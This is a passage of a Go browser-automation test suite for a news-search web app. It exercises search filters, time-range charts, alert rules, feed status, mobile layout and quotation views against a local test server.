		b.eval(`[...document.querySelectorAll(".copies:not([hidden]) li a")].map(a => a.textContent)`, &listed)
		if len(listed) != 1 || !strings.Contains(listed[0], "Geneva") {
			t.Errorf("copies listed: %q", listed)
		}
		var copy, single string
		for _, h := range all.Hits {
			if strings.Contains(h.Title, "Geneva") && copy == "" {
				copy = h.ID
			}
			if strings.HasPrefix(h.Title, "Wire report 07") {
				single = h.ID
			}
		}
		b.open("#article/" + copy)
		b.waitJS("the copies link", `document.querySelector("article.full").dataset.copies === "checked"`)
		var link string
		b.eval(`document.querySelector("#copies") ? document.querySelector("#copies").textContent : ""`, &link)
		if link != "1 other copy of this story" {
			t.Errorf("wire copy: copies link %q", link)
		}
		b.screenshot("article.png")
		b.open("#article/" + single)
		b.waitJS("the copies check", `document.querySelector("article.full").dataset.copies === "checked"`)
		b.eval(`document.querySelector("#copies") ? document.querySelector("#copies").textContent : ""`, &link)
		if link != "" {
			t.Errorf("a story of one offers %q", link)
		}
		b.clean("stories")
	})

	t.Run("back keeps the scroll position", func(t *testing.T) {
		b.t = t
		b.open("#q=")
		b.eval(`window.scrollTo(0, 600); window.scrollY`, nil)
		b.waitJS("the scroll", `window.scrollY === 600`)
		b.eval(`document.querySelectorAll(".hit h2 a")[12].click()`, nil)
		b.waitJS("the article", `document.querySelector("article.full") !== null`)
		b.run(chromedp.Click("#back", chromedp.ByQuery))
		b.waitJS("the results at the same place", `document.querySelector(".hit") !== null && window.scrollY === 600`)
		b.clean("back")
	})

	t.Run("slow earlier response", func(t *testing.T) {
		b.t = t
		// The page is served through a proxy that holds every search for
		// "Fidan" until the next query has rendered (or the page gives the
		// request up). A proxy, not the browser's request interception,
		// which now and then never reported a paused request.
		target, err := url.Parse(b.base)
		if err != nil {
			t.Fatal(err)
		}
		// The Host header is the app's own: it refuses other hosts (README,
		// Security).
		proxy := &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) { r.SetURL(target) }}
		arrived, abandoned := make(chan struct{}, 8), make(chan struct{}, 8)
		release := make(chan struct{})
		letGo := sync.OnceFunc(func() { close(release) })
		slow := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/api/search" && r.URL.Query().Get("q") == "Fidan" {
				arrived <- struct{}{}
				select {
				case <-release:
				case <-r.Context().Done():
					abandoned <- struct{}{}
					return
				}
			}
			proxy.ServeHTTP(w, r)
		}))
		defer slow.Close()
		defer letGo()
		base := b.base
		b.base = slow.URL
		defer func() { b.base = base }()

		b.open("#q=")
		b.run(chromedp.SetValue("#q", "Fidan", chromedp.ByQuery), chromedp.Click(`#f button`, chromedp.ByQuery))
		select {
		case <-arrived:
		case <-time.After(30 * time.Second):
			t.Fatal("the search for Fidan never reached the server")
		}
		b.run(chromedp.SetValue("#q", "summit", chromedp.ByQuery), chromedp.Click(`#f button`, chromedp.ByQuery))
		b.waitJS("the later query", `document.querySelector("#status").textContent.startsWith("1 article for summit")`)
		// The page gives the earlier request up rather than let its answer
		// come in late.
		select {
		case <-abandoned:
		case <-time.After(30 * time.Second):
			t.Error("the page still waits for the earlier search for Fidan")
		}
		letGo()
		if s := b.status(); !strings.HasPrefix(s, "1 article for summit") {
			t.Errorf("after the slow answer: status %q", s)
		}
		b.clean("slow response")
	})

	t.Run("filter chips", func(t *testing.T) {
		b.t = t
		b.open("#q=")
		clickFacet := func(what, js string) {
			t.Helper()
			var ok bool
			b.eval(`(() => { const a = `+js+`; if (a) a.click(); return !!a; })()`, &ok)
			if !ok {
				t.Fatalf("no %s", what)
			}
		}
		facet := func(field, value, class string) string {
			return fmt.Sprintf(`[...document.querySelectorAll("#side li")].map(li => [li.querySelector("a.facet"), li.querySelector("a.%s")]).filter(([f]) => f.href.includes(%q) && (f.title || f.firstChild.textContent) === %q).map(([, a]) => a)[0]`, class, "f="+field, value)
		}
		clickFacet("source facet Wire Service", facet("source", "Wire Service", "facet"))
		b.waitJS("the first chip", `document.querySelectorAll("#chips .chip").length === 1 && !/…$/.test(document.querySelector("#status").textContent)`)
		if s := b.status(); !strings.HasPrefix(s, fmt.Sprintf("%d articles", site.plain)) {
			t.Errorf("source Wire Service: %q, want %d articles", s, site.plain)
		}
		var q string
		b.eval(`document.querySelector("#q").value`, &q)
		if q != "" {
			t.Errorf("a facet rewrote the query text to %q", q)
		}
		clickFacet("source facet Daily Copy", facet("source", "Daily Copy", "facet"))
		b.waitJS("the second chip", `document.querySelectorAll("#chips .chip").length === 2 && !/…$/.test(document.querySelector("#status").textContent)`)
		if s := b.status(); !strings.HasPrefix(s, fmt.Sprintf("%d articles", site.plain+1)) {
			t.Errorf("Wire Service OR Daily Copy: %q, want %d articles", s, site.plain+1)
		}
		clickFacet("exclude TR", facet("country", "TR", "exclude"))
		b.waitJS("the negated chip", `document.querySelectorAll("#chips .chip.negated").length === 1 && !/…$/.test(document.querySelector("#status").textContent)`)
		if s := b.status(); !strings.HasPrefix(s, fmt.Sprintf("%d articles", site.plain-1)) {
			t.Errorf("without TR (the two Geneva copies): %q, want %d articles", s, site.plain-1)
		}
		var chips []string
		b.eval(`[...document.querySelectorAll("#chips .chip")].map(c => c.textContent)`, &chips)
		if len(chips) != 3 || !strings.HasPrefix(chips[2], "not country: Turkey") && !strings.HasPrefix(chips[2], "not country: Türkiye") {
			t.Errorf("chips %q, want the country by name", chips)
		}
		b.screenshot("filters.png")
		b.eval(`document.querySelector("#chips .chip.negated a.remove").click()`, nil)
		b.waitJS("the chip removed", `document.querySelectorAll("#chips .chip").length === 2 && !/…$/.test(document.querySelector("#status").textContent)`)
		if s := b.status(); !strings.HasPrefix(s, fmt.Sprintf("%d articles", site.plain+1)) {
			t.Errorf("after removing the exclusion: %q", s)
		}
		b.clean("filter chips")
	})

	t.Run("highlights and failing feeds", func(t *testing.T) {
		b.t = t
		waitFor(t, "the gone feed to be failing", 30*time.Second, func() bool {
			var feeds struct {
				Feeds []struct{ URL, Status string } `json:"feeds"`
			}
			getJSON(t, base+"/api/feeds", &feeds)
			for _, f := range feeds.Feeds {
				if strings.HasSuffix(f.URL, "/gone.xml") && f.Status == "failing" {
					return true
				}
			}
			return false
		})
		b.open("#q=talks")
		b.waitJS("the failing-feeds banner", `document.querySelector("#failing .banner") !== null`)
		// The banner is drawn with the results, not filled in after them.
		var late int
		b.eval(`window.__lateBanner`, &late)
		if late != 0 {
			t.Error("the failing-feeds banner was filled in after the results were drawn: it moves them under the user's pointer")
		}
		var banner string
		b.eval(`document.querySelector("#failing .banner").textContent`, &banner)
		if !strings.HasPrefix(banner, "1 feed is failing") {
			t.Errorf("banner %q", banner)
		}
		var marks []string
		b.eval(`[...document.querySelectorAll(".hit mark")].map(m => m.textContent.toLowerCase())`, &marks)
		if len(marks) == 0 {
			t.Error("no highlighted match")
		}
		for _, m := range marks {
			if m != "talks" {
				t.Errorf("highlighted %q for the query talks", m)
			}
		}
		b.clean("highlights")
	})

	t.Run("alert from a search", func(t *testing.T) {
		b.t = t
		// Nothing matches yet: the late feed arrives in the next subtest.
		b.open("#q=resumed")
		b.clickUntil("#alertme", "the rule form", `document.querySelector("#rule-name") !== null`)
		var name, q string
		b.eval(`document.querySelector("#rule-name").value`, &name)
		b.eval(`document.querySelector("#rule-query").value`, &q)
		if name != "resumed" || q != "resumed" {
			t.Errorf("the form proposes name %q, query %q", name, q)
		}
		b.run(chromedp.SetValue("#rule-name", "late-talks", chromedp.ByQuery), chromedp.Click("#ruleform button", chromedp.ByQuery))
		b.waitJS("the rule stored", `document.querySelector("#alertme-done") !== null`)
		var rules struct {
			Rules []struct{ Name, Query string } `json:"rules"`
		}
		getJSON(t, base+"/api/rules", &rules)
		if len(rules.Rules) != 1 || rules.Rules[0].Name != "late-talks" || rules.Rules[0].Query != "resumed" {
			t.Errorf("rules after Alert me: %+v", rules.Rules)
		}
		b.clean("alert me")
	})

	t.Run("live pill", func(t *testing.T) {
		b.t = t
		b.open("#q=talks")
		before := b.status()
		// New articles arrive while the search is open.
		resp, err := http.Post(base+"/api/feeds", "application/json", strings.NewReader(`{"url":"`+site.srv.URL+`/late.xml"}`))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusCreated {
			t.Fatalf("POST /api/feeds: %s", resp.Status)
		}
		waitFor(t, "the late articles", 60*time.Second, func() bool { return searchable(base) >= all.Total+2 })
		b.waitJS("the new-articles pill", `document.querySelector("#newpill") !== null`)
		var pill string
		b.eval(`document.querySelector("#newpill").textContent`, &pill)
		if pill != "2 new articles — show" {
			t.Errorf("pill %q", pill)
		}
		if s := b.status(); s != before {
			t.Errorf("the results changed by themselves: %q, then %q", before, s)
		}
		b.run(chromedp.Click("#newpill", chromedp.ByQuery))
		b.waitJS("the new results", `document.querySelector("#newpill") === null && !/…$/.test(document.querySelector("#status").textContent)`)
		if s := b.status(); s == before {
			t.Errorf("after the pill: still %q", s)
		}
		b.clean("live pill")
	})

	t.Run("rules page", func(t *testing.T) {
		b.t = t
		// The late feed (added above) matched the rule made from the page.
		waitFor(t, "the rule to alert", 30*time.Second, func() bool {
			var res struct {
				Alerts []any `json:"alerts"`
			}
			return getJSON(t, base+"/api/alerts?rule=late-talks", &res) == 200 && len(res.Alerts) == 2
		})
		b.open("#rules")
		b.waitJS("the rule's alerts", `[...document.querySelectorAll(".rule[data-rule='late-talks'] .alert-list a")].length === 2`)
		var titles []string
		b.eval(`[...document.querySelectorAll(".rule[data-rule='late-talks'] .alert-list a")].map(a => a.textContent).sort()`, &titles)
		if strings.Join(titles, "|") != "Late talks report 0|Late talks report 1" {
			t.Errorf("alerts listed: %q", titles)
		}
		b.screenshot("rules.png")
		b.eval(`window.confirm = () => true; document.querySelector("button.danger[data-rule='late-talks']").click(); true`, nil)
		b.waitJS("the rule deleted", `document.querySelector(".rule[data-rule='late-talks']") === null && document.querySelector("#status").textContent === "0 rules"`)
		var rules struct {
			Rules []any `json:"rules"`
		}
		getJSON(t, base+"/api/rules", &rules)
		if len(rules.Rules) != 0 {
			t.Errorf("rules after Delete: %v", rules.Rules)
		}
		b.clean("rules page")
	})

	t.Run("feeds", func(t *testing.T) {
		b.t = t
		b.open("#feeds")
		var overlap bool
		b.eval(`(() => { const a = document.querySelector("#add").getBoundingClientRect(), t = document.querySelector("#feedtable").getBoundingClientRect();
			return !(a.right <= t.left || t.right <= a.left || a.bottom <= t.top || t.bottom <= a.top); })()`, &overlap)
		if overlap {
			t.Error("the add-feed box overlaps the feeds table")
		}
		// Failing feeds come first, with a Retry button.
		var first string
		b.eval(`document.querySelector("#feedtable tbody tr td.url .meta").textContent`, &first)
		if !strings.HasSuffix(first, "/gone.xml") {
			t.Errorf("first feed listed: %q, want the failing one", first)
		}
		var retries int
		b.eval(`document.querySelectorAll("#feedtable button.retry").length`, &retries)
		if retries != 1 {
			t.Errorf("%d Retry buttons, want 1 (the failing feed)", retries)
		}
		b.run(chromedp.Click("#feedtable button.retry", chromedp.ByQuery))
		b.waitJS("the retry accepted", `document.querySelector("#side [role=status]").textContent.startsWith("Asked to poll")`)
		b.screenshot("feeds.png")
		b.clean("feeds")
	})

	t.Run("phone", func(t *testing.T) {
		b.t = t
		b.run(chromedp.EmulateViewport(390, 844, chromedp.EmulateMobile))
		defer b.run(chromedp.EmulateViewport(1100, 720))
		for _, v := range []struct{ h, ready string }{
			{"#q=", ""}, {"#feeds", ""}, {"#q=summit", ""},
			{"#q=summit&c=sanctions&c=talks&norm=1", `document.querySelectorAll("#legend li[data-series]").length === 3 && document.querySelectorAll(".compare-q").length === 2`},
			{"#q=talks&view=quotes", `document.querySelector("#who").dataset.loaded === "true"`},
		} {
			h := v.h
			b.open(h)
			if v.ready != "" {
				b.waitJS(h, v.ready)
			}
			var wide bool
			b.eval(`document.documentElement.scrollWidth > window.innerWidth`, &wide)
			if wide {
				t.Errorf("%s: the page is wider than the 390 px screen", h)
			}
		}
		b.open("#q=")
		var above bool
		b.eval(`document.querySelector("#side").getBoundingClientRect().bottom <= document.querySelector(".hit").getBoundingClientRect().top`, &above)
		if !above {
			t.Error("on a phone the filters are not above the results")
		}
		b.screenshot("phone.png")
		b.clean("phone")
	})

	t.Run("more facet values", func(t *testing.T) {
		b.t = t
		resp, err := http.Post(base+"/api/feeds", "application/json", strings.NewReader(`{"url":"`+site.srv.URL+`/outlets.xml"}`))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		waitFor(t, "the outlets' articles", 60*time.Second, func() bool { return searchable(base) >= all.Total+2+11 })
		b.open("#q=bulletin")
		var shown int
		b.eval(`document.querySelectorAll("#side ul[data-facet=source] li").length`, &shown)
		if shown != 10 {
			t.Errorf("%d sources shown, want the top 10", shown)
		}
		b.run(chromedp.Click("#side button.more[data-facet=source]", chromedp.ByQuery))
		b.waitJS("all the sources", `document.querySelectorAll("#side ul[data-facet=source] li").length === 11`)
		b.clean("more facet values")
	})

	// The analysts' tasks of issue 13, on the desk feed's articles (dated
	// relative to now), each checked against what the API answers.
	total := func(t *testing.T, q string) int {
		t.Helper()
		var res struct {
			Total int `json:"total"`
		}
		if code := getJSON(t, base+"/api/search?size=0&q="+url.QueryEscape(q), &res); code != 200 {
			t.Fatalf("search %q: %d", q, code)
		}
		return res.Total
	}
	// newestDesk is when the newest desk article was published.
	newestDesk := func(t *testing.T) time.Time {
		t.Helper()
		var res struct {
			Hits []struct {
				PublishedAt time.Time `json:"published_at"`
			} `json:"hits"`
		}
		if getJSON(t, base+"/api/search?sort=date&size=1&q="+url.QueryEscape(`source:"Summit Desk"`), &res) != 200 || len(res.Hits) != 1 {
			t.Fatal("no newest desk article")
		}
		return res.Hits[0].PublishedAt
	}
	// settled: the view shows the page's address (a new address alone
	// does not mean that its results are in).
	settled := `document.querySelector("#view").dataset.hash === location.hash && !/…$/.test(document.querySelector("#status").textContent)`
	t.Run("analyst: the desk arrives", func(t *testing.T) {
		resp, err := http.Post(base+"/api/feeds", "application/json", strings.NewReader(`{"url":"`+site.srv.URL+`/desk.xml"}`))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		waitFor(t, "the desk's articles", 60*time.Second, func() bool { return total(t, `source:"Summit Desk"`) == deskArticles })
	})

	t.Run("analyst: newest coverage of a person this week", func(t *testing.T) {
		b.t = t
		b.open("#q=")
		b.run(chromedp.SetValue("#q", `person:"Marco Rubio"`, chromedp.ByQuery), chromedp.Click(`#f button`, chromedp.ByQuery))
		b.waitJS("the person's articles", `document.querySelector("#status").textContent.includes("for person:") && `+settled)
		b.eval(`document.querySelector("#sort").value = "date"; document.querySelector("#sort").dispatchEvent(new Event("change")); true`, nil)
		b.waitJS("newest first", `location.hash.includes("sort=date") && `+settled)
		b.eval(`(() => { const w = document.querySelector("#when"); w.value = "now-7d"; w.dispatchEvent(new Event("change")); return true; })()`, nil)
		b.waitJS("this week", `new URLSearchParams(location.hash.slice(1)).getAll("f").includes("published_at:[now-7d TO now]") && `+settled)
		var titles []string
		b.eval(`[...document.querySelectorAll(".hit h2")].map(h => h.textContent)`, &titles)
		// Rubio is quoted in desk articles 0, 3, 6, …; 0 and 3 are of this week.
		want := []string{"Desk 00: summit day in Vienna", "Desk 03: sanctions day in Vienna"}
		if strings.Join(titles, "|") != strings.Join(want, "|") {
			t.Errorf("Rubio this week, newest first: %q, want %q", titles, want)
		}
		if n := total(t, `person:"Marco Rubio" published_at:[now-7d TO now]`); n != len(want) {
			t.Errorf("the API counts %d articles of Rubio this week", n)
		}
		// The past day is charted by the hour; a click on the hour of the
		// newest article (an hour old) narrows the search to that hour.
		b.eval(`(() => { const w = document.querySelector("#when"); w.value = "now-1d"; w.dispatchEvent(new Event("change")); return true; })()`, nil)
		b.waitJS("the past day by the hour", `document.querySelector("#chart") && document.querySelector("#chart").dataset.interval === "hour" && `+settled)
		hour := newestDesk(t).UTC()
		k := b.chartBucket(hour)
		b.dragChart(k, k)
		from := hour.Truncate(time.Hour)
		clause := fmt.Sprintf("published_at:[%s TO %s]", from.Format(time.RFC3339), from.Add(time.Hour-time.Millisecond).Format("2006-01-02T15:04:05.000Z"))
		b.waitJS("the hour's articles", fmt.Sprintf(`[...document.querySelectorAll("#chips .chip")].some(c => c.textContent.includes(%q)) && `, from.Format(time.RFC3339))+settled)
		if s, want := b.status(), fmt.Sprintf("%d ", total(t, `person:"Marco Rubio" `+clause)); !strings.HasPrefix(s, want) || want != "1 " {
			t.Errorf("the hour of %s: %q, want %sarticle", from.Format(time.RFC3339), s, want)
		}
		b.clean("person this week")
	})

	t.Run("analyst: attention to the summit over a month, compared", func(t *testing.T) {
		b.t = t
		b.open("#q=summit")
		b.eval(`(() => { const w = document.querySelector("#when"); w.value = "now-30d"; w.dispatchEvent(new Event("change")); return true; })()`, nil)
		b.waitJS("the month", `location.hash.includes("now-30d") && document.querySelector("#chart") !== null && `+settled)
		b.run(chromedp.Click("#compare-add", chromedp.ByQuery))
		b.waitJS("a compare box", `document.activeElement && document.activeElement.classList.contains("compare-q")`)
		b.run(chromedp.SendKeys(".compare-q", "sanctions", chromedp.ByQuery), chromedp.KeyEvent(kb.Enter))
		b.waitJS("two series", `document.querySelectorAll("#legend li[data-series]").length === 2 && document.querySelectorAll("#chart polyline").length === 2`)
		if h := b.hash(); !strings.Contains(h, "c=sanctions") {
			t.Errorf("the comparison is not in the address: %s", h)
		}
		var legend []string
		b.eval(`[...document.querySelectorAll("#legend li[data-series]")].map(li => li.textContent)`, &legend)
		month := " published_at:[now-30d TO now]"
		wantLegend := []string{fmt.Sprintf("summit — %d articles", total(t, "summit"+month)), fmt.Sprintf("sanctions — %d articles", total(t, "sanctions"+month))}
		if strings.Join(legend, "|") != strings.Join(wantLegend, "|") {
			t.Errorf("legend %q, want %q", legend, wantLegend)
		}
		// Share of all coverage: each day's count over all articles of the day.
		b.run(chromedp.Click("#normalize", chromedp.ByQuery))
		b.waitJS("the normalised chart", `location.hash.includes("norm=1") && document.querySelector("#chart") !== null && document.querySelector(".histo-axis").textContent.includes("% of all articles")`)
		// The readout of the day of the newest desk article (an hour old).
		k := b.chartBucket(newestDesk(t))
		var buckets int
		b.eval(`+document.querySelector("#chart").dataset.buckets`, &buckets)
		b.eval(`document.querySelector("#chart").focus(); true`, nil)
		b.run(chromedp.KeyEvent(kb.End))
		for range buckets - 1 - k {
			b.run(chromedp.KeyEvent(kb.ArrowLeft))
		}
		var readout string
		b.eval(`document.querySelector("#histo-readout").textContent`, &readout)
		var day string
		var pctS string
		var n, all int
		if _, err := fmt.Sscanf(readout, "%s — summit: %s (%d of %d)", &day, &pctS, &n, &all); err != nil {
			t.Fatalf("readout %q: %v", readout, err)
		}
		dayQ := fmt.Sprintf(" published_at:[%s TO %s]", day, day)
		if wn, wall := total(t, "summit"+dayQ), total(t, "*"+dayQ); n != wn || all != wall || all == 0 {
			t.Errorf("readout %q: the API counts %d summit articles of %d that day", readout, wn, wall)
		} else if want := fmt.Sprintf("%.0f%%", 100*float64(n)/float64(all)); pctS != want && pctS != fmt.Sprintf("%.1f%%", 100*float64(n)/float64(all)) {
			t.Errorf("readout %q: share %s, want %s", readout, pctS, want)
		}
		b.screenshot("compare.png")
		// The link holds the chart: opened afresh it shows the same.
		shared := b.hash()
		b.open(shared)
		b.waitJS("the shared chart", `document.querySelectorAll("#legend li[data-series]").length === 2 && document.querySelector("#normalize").checked`)
		// Brushing with the mouse narrows the search to the days dragged over.
		b.eval(`document.querySelector("#normalize").click(); true`, nil)
		b.waitJS("counts again", `!location.hash.includes("norm=1") && document.querySelector("#chart") !== null && document.querySelector(".histo-axis span:nth-child(2)").textContent.startsWith("per day")`)
		var first string
		b.eval(`+document.querySelector("#chart").dataset.buckets`, &buckets)
		b.eval(`document.querySelector("#chart").dataset.first`, &first)
		b.dragChart(buckets-8, buckets-2)
		start, _ := time.Parse(time.RFC3339, first)
		from, to := start.AddDate(0, 0, buckets-8).Format(time.DateOnly), start.AddDate(0, 0, buckets-2).Format(time.DateOnly)
		clause := fmt.Sprintf("published_at:[%s TO %s]", from, to)
		hasChip := func(text string) string {
			return fmt.Sprintf(`[...document.querySelectorAll("#chips .chip")].some(c => c.textContent.includes(%q)) && `, text) + settled
		}
		b.waitJS("the brushed range", hasChip(from+" TO "+to))
		if h := b.hash(); !strings.Contains(h, url.QueryEscape(clause)) {
			t.Errorf("after brushing %s: address %s", clause, h)
		}
		if s, want := b.status(), fmt.Sprintf("%d ", total(t, "summit "+clause)); !strings.HasPrefix(s, want) {
			t.Errorf("after brushing %s: %q, want %s articles", clause, s, want)
		}
		var chips []string
		b.eval(`[...document.querySelectorAll("#chips .chip")].map(c => c.textContent)`, &chips)
		if len(chips) != 1 || !strings.Contains(chips[0], from+" TO "+to) {
			t.Errorf("chips after brushing: %q, want only the brushed range", chips)
		}
		if h := b.hash(); !strings.Contains(h, "c=sanctions") {
			t.Errorf("brushing lost the comparison: %s", h)
		}
		// The keyboard does the same: End, Shift+← twice, Enter.
		b.waitJS("the chart of the range", `document.querySelector("#chart") !== null`)
		b.eval(`+document.querySelector("#chart").dataset.buckets`, &buckets)
		b.eval(`document.querySelector("#chart").dataset.first`, &first)
		start, _ = time.Parse(time.RFC3339, first)
		b.eval(`document.querySelector("#chart").focus(); true`, nil)
		b.run(chromedp.KeyEvent(kb.End), chromedp.KeyEvent(kb.ArrowLeft, chromedp.KeyModifiers(input.ModifierShift)),
			chromedp.KeyEvent(kb.ArrowLeft, chromedp.KeyModifiers(input.ModifierShift)), chromedp.KeyEvent(kb.Enter))
		b.waitJS("the range picked by keyboard", hasChip(start.AddDate(0, 0, buckets-3).Format(time.DateOnly)+" TO "+start.AddDate(0, 0, buckets-1).Format(time.DateOnly)))
		b.clean("attention compared")
	})

	t.Run("analyst: everything a speaker said on a topic", func(t *testing.T) {
		b.t = t
		b.open("#q=summit")
		b.run(chromedp.Click("#tab-quotes", chromedp.ByQuery))
		b.waitJS("the quotations by speaker", `document.querySelector("#who") && document.querySelector("#who").dataset.loaded === "true"`)
		var groups []struct {
			Speaker string   `json:"speaker"`
			Quotes  []string `json:"quotes"`
			Links   int      `json:"links"`
		}
		b.eval(`[...document.querySelectorAll("#who .speaker-group")].map(g => ({speaker: g.dataset.speaker,
			quotes: [...g.querySelectorAll("blockquote")].map(q => q.textContent).sort(), links: g.querySelectorAll("a[href^='#article/']").length}))`, &groups)
		want := map[string][]string{}
		for i := 0; i < deskArticles; i += 2 { // the summit articles
			want[deskSpeakers[i%3]] = append(want[deskSpeakers[i%3]], "“"+deskQuote(i)+"”")
		}
		if len(groups) != len(want) {
			t.Errorf("%d speakers on the summit, want %d: %+v", len(groups), len(want), groups)
		}
		for _, g := range groups {
			w := want[g.Speaker]
			slices.Sort(w)
			if strings.Join(g.Quotes, "|") != strings.Join(w, "|") || g.Links != len(w) {
				t.Errorf("%s said %q (%d article links), want %q", g.Speaker, g.Quotes, g.Links, w)
			}
		}
		b.screenshot("quotes.png")
		// The speaker's name narrows the search to them.
		b.eval(`document.querySelector("#who .speaker-group[data-speaker='Marco Rubio'] h2 a").click(); true`, nil)
		b.waitJS("Rubio on the summit", `new URLSearchParams(location.hash.slice(1)).getAll("f").includes('speaker:"Marco Rubio"') && `+settled)
		var quotes []string
		b.eval(`[...document.querySelectorAll(".hit blockquote")].map(q => q.textContent)`, &quotes)
		if len(quotes) != len(want["Marco Rubio"]) {
			t.Errorf("Rubio on the summit: quotes %q", quotes)
		}
		b.clean("who said what")
	})
}
